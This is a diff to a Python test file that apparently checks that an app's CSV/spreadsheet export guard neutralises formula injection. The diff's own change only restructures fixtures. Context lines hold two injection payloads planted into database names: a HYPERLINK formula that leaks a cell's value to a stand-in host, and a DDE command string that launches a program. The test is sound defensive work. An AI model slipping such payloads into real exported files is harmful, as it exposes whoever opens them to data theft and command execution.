@@ -4,11 +4,13 @@ actdesk's own book import reads its guarded export back unchanged."""
 from __future__ import annotations
 
 import csv
+import shutil
 import sqlite3
 import zipfile
 from pathlib import Path
 
 import pytest
+from tests.reliability.conftest import cli_demo
 
 from actdesk.cli import main
 from actdesk.services.cell_guard import ExportSettings, guard, unguard
@@ -18,16 +20,22 @@ EVIL = '=HYPERLINK("http://x.example/?d="&B5,"click")'
 PLUS = "+cmd|' /C calc'!A0"
 
 
-@pytest.fixture
-def evil_book(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Path:
-    db = tmp_path / "book.db"
-    assert main(["--db", str(db), "demo", "--households", "15", "--seed", "2", "--as-of", "2026-06-30"]) == 0
+@pytest.fixture(scope="module")
+def evil_source(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    db = cli_demo(tmp_path_factory, "--households", "15", "--seed", "2", "--as-of", "2026-06-30")
     conn = sqlite3.connect(db)
     with conn:
         conn.execute("UPDATE households SET name = ?", (EVIL,))  # whichever the report shows
         conn.execute("UPDATE contacts SET last_name = ? WHERE id = (SELECT min(id) FROM contacts)", (PLUS,))
     conn.close()
-    capsys.readouterr()
+    return db
+
+
+@pytest.fixture
+def evil_book(evil_source: Path, tmp_path: Path) -> Path:
+    """Each test's own copy of the module's book (made once: the demo was most of each test's CPU)."""
+    db = tmp_path / "book.db"
+    shutil.copyfile(evil_source, db)
     return db
 
 
